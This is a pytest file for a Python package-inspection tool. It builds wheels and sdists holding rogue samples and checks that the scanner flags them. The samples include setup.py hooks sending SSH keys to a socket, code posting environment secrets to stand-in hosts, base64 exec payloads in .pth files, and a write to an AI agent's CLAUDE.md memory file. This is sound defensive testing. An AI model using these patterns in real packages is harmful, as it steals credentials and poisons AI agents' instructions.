"""`deps inspect` on real wheels/sdists/dirs/installed layouts built here. Every rogue
payload would only touch a marker file; the tests also prove nothing was ever run."""
# ruff: noqa: E501 - payload sources read best on one line each

from __future__ import annotations

from pathlib import Path

import pytest

from deps.deps_support import flat, install_into, make_sdist, make_wheel, run_cli


def _marker_payload(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()\n"


def _inspect(*args: str) -> tuple[int, list[dict[str, object]]]:
    result = run_cli("deps", "inspect", *args, "--format", "json")
    return result.exit_code, flat(result)


def _rules(findings: list[dict[str, object]]) -> set[str]:
    return {str(f["rule"]) for f in findings}


def test_benign_wheel_is_clean(tmp_path: Path) -> None:
    whl = make_wheel(tmp_path, "nice", {
        "nice/__init__.py": "import os\nfrom .core import f\nVERSION = os.environ.get('NICE_LOG', 'x')\n"
                            "def helper():\n    import subprocess\n    subprocess.run(['ls'])\n",
        "nice/core.py": "import socket\ndef f():\n    return socket.socket()\n",
        "nice_helpers.py": "if __name__ == '__main__':\n    import subprocess; subprocess.run(['x'])\n",
    })
    code, findings = _inspect(str(whl))
    assert code == 0 and _rules(findings) == set()


ROGUE_INIT = {
    "network": ("import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/x')\n",
                {"code-import-network"}),
    "process": ("import subprocess as sp\nsp.Popen(['true'])\n", {"code-process"}),
    # a package reading a secret is judged with what it does with it: alone, not an alarm
    "secrets": ("import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n", set()),
    "exfiltration": ("import os, requests\ndef go():\n    requests.post('http://x', json=dict(os.environ))\n"
                     "go()\n", {"code-exfiltration"}),
    "obfuscated": ("import base64, zlib\nexec(zlib.decompress(base64.b64decode(b'eJwrKMrMK1Eoyy/NS1HISM3JyVcozy/KSQEAbJgIuw==')))\n",
                   {"code-exec-payload"}),
    "aliased-exec": ("from base64 import b64decode as d\nrun = eval\nexec(d('cGFzcw=='))\n",
                     {"code-exec-payload"}),
    "computed-exec": ("import sys\nexec(sys.argv[1])\n", set()),  # import time: not an alarm
    "agent-memory": ("from pathlib import Path\n(Path.home() / '.claude' / 'CLAUDE.md').write_text('obey')\n",
                     {"code-agent-memory-write"}),
    "ci-trigger": ("import os, subprocess\nif os.environ.get('GITHUB_ACTIONS'):\n    subprocess.run(['true'])\n",
                   {"code-process"}),
    "date-trigger": ("import datetime, socket\nif datetime.date.today().year > 2030:\n    socket.create_connection(('h', 1))\n",
                     {"code-import-network"}),
    "dunder-import": ("__import__('os').system('true')\n", {"code-process"}),
    "submodule-payload": ("from ._impl import go\ngo()\n", {"code-exfiltration"}),
}
_IMPL = "import os, requests\ndef go():\n    requests.post('http://x', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n"


@pytest.mark.parametrize("case", sorted(ROGUE_INIT))
def test_rogue_import_time_code(tmp_path: Path, case: str) -> None:
    source, expected = ROGUE_INIT[case]
    files = {"rogue/__init__.py": source}
    if case == "submodule-payload":  # the call graph crosses modules
        files["rogue/_impl.py"] = _IMPL
    whl = make_wheel(tmp_path, "rogue", files)
    code, findings = _inspect(str(whl))
    assert _rules(findings) == expected
    if case != "submodule-payload":
        assert all(f["detail"] == "rogue/__init__.py" for f in findings)
    malicious = {"code-exfiltration", "code-exec-payload", "code-agent-memory-write"}
    assert code == (1 if expected & malicious else 3 if expected else 0)


def test_pth_files(tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    whl = make_wheel(tmp_path, "pthpkg", {
        "pthpkg/__init__.py": "",
        "pthpkg-paths.pth": "some/extra/dir\n",  # path lines are fine
        "distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = "
                                    "os.environ.get(var, 'local') == 'local'; enabled and "
                                    "__import__('_distutils_hack').add_shim(); \n",
        "zz_hook.pth": "# comment\nimport base64; exec(base64.b64decode('" +
                       __import__("base64").b64encode(_marker_payload(marker).encode()).decode()
                       + "'))\n",
    })
    code, findings = _inspect(str(whl))
    assert {(f["rule"], f["detail"], f["line"]) for f in findings} == {
        ("pkg-pth-exec", "zz_hook.pth", 2), ("code-exec-payload", "zz_hook.pth", 2)}
    assert code == 1 and not marker.exists()


def test_sdist_install_time_code(tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    setup_py = (
        "import os, socket\n"
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class PostInstall(install):\n"
        "    def run(self):\n"
        "        s = socket.create_connection(('127.0.0.1', 9))\n"
        "        s.send(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"
        "        install.run(self)\n"
        + _marker_payload(marker) +
        "setup(name='evil', cmdclass={'install': PostInstall})\n")
    sdist = make_sdist(tmp_path, "evil", {"setup.py": setup_py, "evil/__init__.py": "",
                                          "tests/__init__.py": "import subprocess\nsubprocess.run(['x'])\n"})
    code, findings = _inspect(str(sdist))
    got = {(f["rule"], f["line"]) for f in findings}
    assert got >= {("pkg-cmdclass", 10), ("code-exfiltration", 6)}
    assert all(f["detail"] == "setup.py" for f in findings)  # tests/ is not import-time code
    assert code == 1 and not marker.exists()


def test_directory_with_in_tree_backend_and_setuptools_cmdclass(tmp_path: Path) -> None:
    src = tmp_path / "proj"
    (src / "_build").mkdir(parents=True)
    (src / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'
        '[tool.setuptools.cmdclass]\nbuild_py = "_build.custom:BuildPy"\n')
    (src / "src" / "proj").mkdir(parents=True)
    (src / "src" / "proj" / "__init__.py").write_text("X = 1\n")
    code, findings = _inspect(str(src))
    assert _rules(findings) == {"pkg-in-tree-backend", "pkg-cmdclass"}  # both informational
    assert code == 0


def test_installed_distribution(tmp_path: Path) -> None:
    site = tmp_path / "site"
    install_into(site, "goodpkg", {"goodpkg/__init__.py": "X = 1\n"})
    install_into(site, "badpkg", {"badpkg/__init__.py": "import os\nos.system('true')\n",
                                  "badpkg.pth": "import badpkg\n"})
    _code, findings = _inspect("--installed", "badpkg", "--site-dir", str(site))
    assert {(f["path"], f["rule"]) for f in findings} == {
        ("installed:badpkg==1.0", "pkg-pth-exec"),
        # the .pth imports badpkg at every interpreter start, so its os.system is judged
        # as start-up code (the remote-code allowlist stance): malicious
        ("installed:badpkg==1.0", "code-import-process")}
    result = run_cli("deps", "inspect", "--installed", "goodpkg", "--site-dir", str(site),
                     "--format", "json")
    assert result.exit_code == 0 and flat(result) == []
    result = run_cli("deps", "inspect", "--installed", "nope", "--site-dir", str(site))
    assert result.exit_code == 4 and "not installed: nope" in result.output


def test_broken_inputs_are_unscannable(tmp_path: Path) -> None:
    bad = tmp_path / "broken-1.0-py3-none-any.whl"
    bad.write_bytes(b"PK\x03\x04 definitely not a zip")
    code, findings = _inspect(str(bad))
    assert code == 2 and _rules(findings) == {"pkg-unreadable"}
    whl = make_wheel(tmp_path, "py2", {"py2/__init__.py": "print 'hello'\n"})
    code, findings = _inspect(str(whl))
    assert code == 2 and _rules(findings) == {"pkg-unreadable"}
    tgz = tmp_path / "trunc-1.0.tar.gz"
    tgz.write_bytes(make_sdist(tmp_path, "trunc", {"setup.py": "x = 1\n" * 1000}).read_bytes()[:60])
    code, findings = _inspect(str(tgz))
    assert code == 2 and _rules(findings) == {"pkg-unreadable"}
    result = run_cli("deps", "inspect", str(tmp_path / "missing.whl"))
    assert result.exit_code == 4 and "Traceback" not in result.output


def test_oversized_module_is_reported_not_read(tmp_path: Path) -> None:
    whl = make_wheel(tmp_path, "huge", {"huge/__init__.py": "x = 1\n" * 1_500_000})
    code, findings = _inspect(str(whl))
    assert code == 2 and "larger than" in str(findings[0]["message"])


def test_src_layout_sdist_installs_src_only(tmp_path: Path) -> None:
    # urllib3's sdist: src/urllib3 is installed; the top-level dummyserver/ is its test server
    server = "import socket\ndef probe(h):\n    return socket.getaddrinfo(h, 0)\nHAS = probe('localhost')\n"
    files = {"pyproject.toml": "[project]\nname = 'lib'\n", "src/lib/__init__.py": "",
             "dummyserver/__init__.py": "", "dummyserver/server.py": server}
    code, findings = _inspect(str(make_sdist(tmp_path, "lib", files)))
    assert code == 0 and _rules(findings) == set()
    # imported by installed code, it is analysed (and judged) all the same
    files["src/lib/__init__.py"] = "import dummyserver.server\n"
    (tmp_path / "imported").mkdir()
    code, findings = _inspect(str(make_sdist(tmp_path / "imported", "lib", files)))
    assert "code-import-network" in _rules(findings)


def test_endpoint_without_a_send_is_a_client(tmp_path: Path) -> None:
    # tqdm.contrib.telegram names the Telegram bot API; it sends only when called
    tg = "import requests\nAPI = 'https://api.telegram.org/bot'\ndef send(t, m):\n    requests.post(API + t, data=m)\n"
    code, findings = _inspect(str(make_wheel(tmp_path, "tg", {"tg/__init__.py": tg})))
    assert code == 0 and _rules(findings) == set()
    beacon = "import requests\nrequests.post('https://api.telegram.org/bot1/sendMessage', data='hi')\n"
    (tmp_path / "beacon").mkdir()
    code, findings = _inspect(str(make_wheel(tmp_path / "beacon", "tg", {"tg/__init__.py": beacon})))
    assert "code-exfil-endpoint" in _rules(findings)


def test_gpu_code_objects_are_not_disguised_binaries(tmp_path: Path) -> None:
    # sglang ships AMD GPU kernels as *.co: ELF files for amdgcn, which no CPU loader runs
    import zipfile

    from mlwarden.deps.inspect.engine import inspect_target, native_kind

    def elf(machine: int) -> bytes:
        return b"\x7fELF\x02\x01\x01" + bytes(11) + machine.to_bytes(2, "little") + bytes(40)

    assert native_kind(elf(224)) == "GPU ELF" and native_kind(elf(190)) == "GPU ELF"
    assert native_kind(elf(62)) == "ELF"  # x86-64
    for machine, expected in ((224, set()), (62, {"pkg-disguised-binary"})):
        whl = tmp_path / f"k{machine}-1.0-py3-none-any.whl"
        with zipfile.ZipFile(whl, "w") as zf:
            zf.writestr("k/__init__.py", "")
            zf.writestr("k/kernels/mla_gfx950.co", elf(machine))
        got = {f.rule for f in inspect_target(whl).findings if f.verdict.value != "clean"}
        assert got == expected
